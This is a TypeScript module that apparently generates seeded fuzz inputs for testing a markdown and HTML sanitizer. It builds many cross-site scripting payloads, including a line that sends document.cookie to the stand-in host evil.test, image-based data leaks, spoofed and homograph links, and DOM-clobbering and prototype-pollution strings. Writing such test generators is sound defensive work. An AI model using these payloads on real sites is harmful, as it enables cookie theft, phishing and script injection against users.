// Hostile texts made by chance from a seed: constructs of markdown and HTML, filled with addresses and
// scripts, wrapped in each other, then mutated. The same seed gives the same texts.

import { createSeededRandom, type SeededRandom } from '../doubles/seeded-random.ts';

const SCRIPTS = [
  'alert(1)',
  'tripwire(1)',
  'fetch("//evil.test/"+document.cookie)',
  'location="//evil.test"',
  'Object.prototype.x=1',
  'import("//evil.test/x.js")',
];

export const ADDRESSES: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  'java&#10;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'https://evil.test/?d=secret',
  'http://evil.test/a.png',
  '//evil.test/x',
  'https://user:pass@evil.test/',
  'https://evil.test\\@localhost/',
  'blob:https://evil.test/1',
  'file:///etc/passwd',
  'https://еvil.test/',
  'https://evil.test/\u202Egnp.exe',
  'mailto:a@evil.test?body=x',
  'tel:*%2306%23',
  'intent://evil.test#Intent;end',
  '/logout?now=1',
  `https://evil.test/?q=${'secret'.repeat(30)}`,
  'https://:pass@evil.test/',
  'https://bücher.test/',
  'https://img.ok.test.evil.test/a.png',
  'https://img.ok.test@evil.test/a.png',
  `https://img.ok.test/?url=https://evil.test/${'secret'.repeat(20)}`,
];

/** Much in little pieces, to an origin that may show pictures. */
const PIECES = ['secret-'.repeat(13), ''].map((carried) =>
  Array.from({ length: 40 }, (_, at) => `![x](https://img.ok.test/${at}${carried})`).join(' '),
);

const HOLES: readonly string[] = [
  ...PIECES,
  ...PIECES,
  '[text]({u})',
  '[text](<{u}>)',
  '[bank.test]({u})',
  '[https://bank.test/login]({u})',
  '[bank．test]({u})',
  ...[
    'login@bank.test',
    'to bankꓸtest now',
    'to bank﹒test now',
    'to bank‧test now',
    'to bank・test now',
    'to bank٠test now',
    'to bankノtest now',
    'to bank\u0323test now',
    'to bank\u200a.test now',
    'intranet',
    '192.168.0.1',
  ].map((label) => `[${label}]({u})`),
  '[go to bank]({u}).test/login',
  '[ba\u200bnk.test!]({u})',
  '\u202e[text\u2066]({u}) \u202d',
  '`a\u202eb\u2067`',
  '```\na\u202eb\n',
  '&#x202e;[te&#8238;xt]({u})',
  '[text]({u} "{s}")',
  '![alt]({u})',
  "![alt](<{u}> '{s}')",
  '<{u}>',
  '{u}',
  '[r]\n\n[r]: {u}',
  '![r][]\n\n[r]: <{u}> "{s}"',
  '[![i]({u})]({u})',
  '<script>{s}</script>',
  '<img src=x onerror={s}>',
  '<img src="{u}">',
  '<a href="{u}" onclick="{s}">x</a>',
  '<svg><script>{s}</script></svg>',
  '<svg onload={s}>',
  '<iframe src="{u}"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={s}&gt;">',
  '<form id=x action="{u}"><button form=x formaction="{u}">y</button></form>',
  '<style>@import "{u}";*{background:url({u})}</style>',
  '<link rel=stylesheet href="{u}">',
  '<meta http-equiv=refresh content="0;url={u}">',
  '<base href="{u}">',
  '<object data="{u}"></object>',
  '<template><img src=x onerror={s}></template>',
  '<noscript><p title="</noscript><img src=x onerror={s}>">',
  '<a id=body name=getElementById>x</a>',
  '<img name=body id=createElement>',
  '<form name=document><input name=cookie></form>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">{s}</x:script>',
  '<!--[if IE]><script>{s}</script><![endif]-->',
  '<![CDATA[<script>{s}</script>]]>',
  '<details open ontoggle={s}>',
  '<video><source onerror={s}>',
  '<body onload={s}>',
  '<input autofocus onfocus={s}>',
  '<p style="background:url({u})">',
  '<img srcset="{u} 1x">',
  '<a href="{u}" ping="{u}" target=_top>x</a>',
  '`<img src=x onerror={s}>`',
  '```html\n<script>{s}</script>\n```',
  '    <script>{s}</script>',
  '```"><img src=x onerror={s}>\ncode\n```',
  '~~~ <svg/onload={s}>\nx',
  '| <img src=x onerror={s}> | b |\n| - | - |\n| [x]({u}) | ![y]({u}) |',
  '# <svg onload={s}>',
  '&lt;script&gt;{s}&lt;/script&gt;',
  '\\<script>{s}\\</script>',
  '"><script>{s}</script>',
  "'-{s}-'",
  '{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror={s}>"}},"__k":null}',
  '__proto__[x]={s}',
  '{{constructor.constructor("{s}")()}}',
  '$' + '{{s}}',
];

const WRAPS: readonly string[] = [
  '{x}',
  '- {x}',
  '1. {x}',
  '> {x}',
  '**{x}**',
  '*{x}*',
  '~~{x}~~',
  '[{x}](https://ok.test)',
  '# {x}',
  '| a |\n| - |\n| {x} |',
  '- [ ] {x}',
  '> - > {x}',
  'text {x} text',
  '<div>\n{x}\n</div>',
  '<p>\n\n{x}',
  '[a]: {x}',
  '```\n{x}',
  '`{x}`',
  '<a href="{x}">',
];

const STRAY = [
  '<',
  '>',
  '"',
  "'",
  '`',
  '\\',
  '\u0000',
  '\u202e',
  '\ufeff',
  '\u2028',
  '&',
  '\n',
  '\n\n',
  '\t',
  ']',
  '[',
  ')',
  '(',
  '!',
  '*',
  '_',
  '~',
  '|',
  '#',
  '--',
  '</',
  '/>',
  '<!--',
  '-->',
  ']]>',
  '&#',
  ';',
  '\ud800',
  '\u00a0',
  '\u0130',
];

export function generatePayloads(seed: number | string, count: number): string[] {
  const random = createSeededRandom(seed);
  const made = new Set<string>();
  while (made.size < count) made.add(generateOne(random));
  return [...made];
}

function generateOne(random: SeededRandom): string {
  const fill = (hole: string): string =>
    hole.replace(/\{([us])\}/g, (_, kind: string) =>
      random.pick(kind === 'u' ? ADDRESSES : SCRIPTS),
    );
  const parts = Array.from({ length: 1 + random.int(3) }, () => fill(random.pick(HOLES)));
  let text = parts.join(random.pick(['', ' ', '\n', '\n\n']));
  for (let wraps = random.int(3); wraps > 0; wraps--) {
    // As a function: "$&" in a payload must not be taken for a pattern.
    const inner = text;
    text = random.pick(WRAPS).replace('{x}', () => inner);
  }
  for (let changes = random.int(4); changes > 0; changes--) text = mutate(text, random);
  return text;
}

function mutate(text: string, random: SeededRandom): string {
  const at = random.int(text.length + 1);
  const end = Math.min(text.length, at + 1 + random.int(4));
  switch (random.int(5)) {
    case 0:
      return text.slice(0, at) + random.pick(STRAY) + text.slice(at);
    case 1:
      return text.slice(0, at) + text.slice(end);
    case 2:
      return text.slice(0, at) + text.slice(at, end).toUpperCase() + text.slice(end);
    case 3:
      return (
        text.slice(0, at) +
        [...text.slice(at, end)].map((char) => `&#${char.codePointAt(0)};`).join('') +
        text.slice(end)
      );
    default:
      return text.slice(at) + text.slice(0, at);
  }
}
